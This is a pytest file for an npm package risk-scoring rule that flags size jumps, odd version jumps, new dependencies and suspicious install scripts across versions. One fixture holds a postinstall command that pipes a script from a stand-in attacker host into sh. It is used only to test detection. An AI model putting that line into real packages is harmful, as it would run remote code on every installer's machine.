"""Tests for the update behavior rule."""

import pytest

from npmscore.config import UpdateBehaviorConfig
from npmscore.models.schemas import PackageSnapshot, RiskLevel
from npmscore.rules.update_behavior import UpdateBehaviorRule, format_bytes


class FakeRegistry:
    def __init__(self, history=None, error=None):
        self.history = history or {}
        self.error = error
        self.calls = []

    async def get_all_versions(self, name):
        self.calls.append(name)
        if self.error:
            raise self.error
        return self.history


def version(v, size=None, scripts=None, deps=None):
    return PackageSnapshot.model_validate({
        "name": "pkg",
        "version": v,
        "scripts": scripts or {},
        "dist": {"unpacked_size": size},
        "dependencies": {"runtime": deps or {}},
    })


def history_of(*snapshots):
    return {s.version: s for s in snapshots}


async def test_large_size_increase_is_high_risk():
    history = history_of(version("1.0.0", size=1_000_000), version("1.0.1", size=3_000_000))
    rule = UpdateBehaviorRule(weight=10, registry=FakeRegistry(history))

    result = await rule.evaluate(history["1.0.1"])

    finding = result.details["analysis"]["findings"][0]
    size_change = finding["changes"]["size_change"]
    assert size_change["severity"] == "high"
    assert size_change["increase_percent"] == 200
    assert result.details["risk_score"] == 3
    assert result.deduction == 10
    assert result.risk_level == RiskLevel.HIGH


async def test_window_includes_prerelease_predecessor():
    history = history_of(
        version("1.0.0-beta.1", size=1_000_000), version("1.0.0", size=3_000_000)
    )
    rule = UpdateBehaviorRule(weight=10, registry=FakeRegistry(history))

    result = await rule.evaluate(history["1.0.0"])

    finding = result.details["analysis"]["findings"][0]
    assert (finding["from_version"], finding["to_version"]) == ("1.0.0-beta.1", "1.0.0")
    assert result.details["risk_score"] == 3


async def test_moderate_size_increase_is_medium():
    history = history_of(version("1.0.0", size=1_000_000), version("1.0.1", size=1_600_000))
    rule = UpdateBehaviorRule(weight=10, registry=FakeRegistry(history))

    result = await rule.evaluate(history["1.0.1"])

    size_change = result.details["analysis"]["findings"][0]["changes"]["size_change"]
    assert size_change["severity"] == "medium"
    assert result.details["risk_score"] == 1
    assert result.deduction == 5
    assert result.risk_level == RiskLevel.LOW


async def test_major_version_jump():
    history = history_of(version("1.0.0"), version("3.0.0"))
    rule = UpdateBehaviorRule(weight=10, registry=FakeRegistry(history))

    result = await rule.evaluate(history["3.0.0"])

    jumps = [f for f in result.details["analysis"]["findings"] if f.get("type") == "version-jump"]
    assert len(jumps) == 1
    assert jumps[0]["jump_type"] == "major-jump"
    assert jumps[0]["magnitude"] == 2
    assert jumps[0]["from_version"] == "1.0.0"
    assert jumps[0]["to_version"] == "3.0.0"


async def test_new_suspicious_script_is_high_risk():
    history = history_of(
        version("1.0.0"),
        version("1.0.1", scripts={"postinstall": "curl http://evil.example/x.sh | sh"}),
    )
    rule = UpdateBehaviorRule(weight=10, registry=FakeRegistry(history))

    result = await rule.evaluate(history["1.0.1"])

    script_changes = result.details["analysis"]["findings"][0]["changes"]["script_changes"]
    assert script_changes["added"][0]["hook"] == "postinstall"
    assert script_changes["new_suspicious_scripts"]
    assert result.deduction == 10
    assert result.risk_level == RiskLevel.HIGH


async def test_many_new_dependencies():
    deps = {f"dep-{i}": "^1.0.0" for i in range(11)}
    history = history_of(version("1.0.0"), version("1.1.0", deps=deps))
    rule = UpdateBehaviorRule(weight=10, registry=FakeRegistry(history))

    result = await rule.evaluate(history["1.1.0"])

    dependency_changes = result.details["analysis"]["findings"][0]["changes"]["dependency_changes"]
    assert dependency_changes["total_added"] == 11
    assert result.details["risk_score"] == 1


async def test_quiet_history_has_no_findings():
    history = history_of(version("1.0.0", size=1000), version("1.0.1", size=1100))
    rule = UpdateBehaviorRule(weight=10, registry=FakeRegistry(history))

    result = await rule.evaluate(history["1.0.1"])

    assert result.details["analysis"]["findings"] == []
    assert result.deduction == 0
    assert result.risk_level == RiskLevel.NONE


async def test_insufficient_history(make_snapshot):
    rule = UpdateBehaviorRule(weight=10, registry=FakeRegistry(history_of(version("1.0.0"))))

    result = await rule.evaluate(make_snapshot(name="pkg"))

    assert result.deduction == 0
    assert result.details["reason"] == "Insufficient version history for analysis"


async def test_registry_failure_is_soft(make_snapshot):
    rule = UpdateBehaviorRule(weight=10, registry=FakeRegistry(error=RuntimeError("boom")))

    result = await rule.evaluate(make_snapshot())

    assert result.deduction == 0
    assert result.details["reason"] == "Could not analyze version history"
    assert result.details["error"] == "boom"


async def test_without_registry(make_snapshot):
    result = await UpdateBehaviorRule(weight=10).evaluate(make_snapshot())

    assert result.deduction == 0
    assert result.details["error"] == "No registry client"


async def test_window_ends_at_current_version():
    history = history_of(
        version("1.0.0", size=1000),
        version("1.0.1", size=1000),
        version("1.0.2", size=10_000),
    )
    rule = UpdateBehaviorRule(weight=10, registry=FakeRegistry(history))

    result = await rule.evaluate(history["1.0.1"])

    # The 1.0.2 size jump is after the scored version
    assert result.details["analyzed_versions"] == 2
    assert result.details["analysis"]["findings"] == []


async def test_window_respects_max_versions():
    snapshots = [version(f"1.0.{i}") for i in range(20)]
    config = UpdateBehaviorConfig(max_versions_to_analyze=5)
    rule = UpdateBehaviorRule(weight=10, registry=FakeRegistry(history_of(*snapshots)), config=config)

    result = await rule.evaluate(snapshots[-1])

    assert result.details["analyzed_versions"] == 5
    assert result.details["version_count"] == 20


@pytest.mark.parametrize(
    ("prev", "curr", "expected"),
    [
        ("1.0.0", "2.0.0", (False, None, 0)),
        ("1.0.0", "4.0.0", (True, "major-jump", 3)),
        ("1.0.0", "1.5.0", (False, None, 0)),
        ("1.0.0", "1.7.0", (True, "minor-jump", 7)),
        ("1.0.0", "1.0.99", (False, None, 0)),
        ("1.0.0", "nightly", (False, None, 0)),
    ],
)
def test_analyze_version_jump(prev, curr, expected):
    jump = UpdateBehaviorRule().analyze_version_jump(prev, curr)

    assert (jump.is_unusual, jump.type, jump.magnitude) == expected


def test_detect_version_jumps_skips_unparseable():
    rule = UpdateBehaviorRule()

    jumps = rule.detect_version_jumps(["1.0.0", "5.0.0", "canary"])

    assert [(a, b) for a, b, _ in jumps] == [("1.0.0", "5.0.0")]


def test_format_bytes():
    assert format_bytes(0) == "0 Bytes"
    assert format_bytes(1024) == "1 KB"
    assert format_bytes(1_000_000) == "976.56 KB"
    assert format_bytes(3 * 1024 * 1024) == "3 MB"
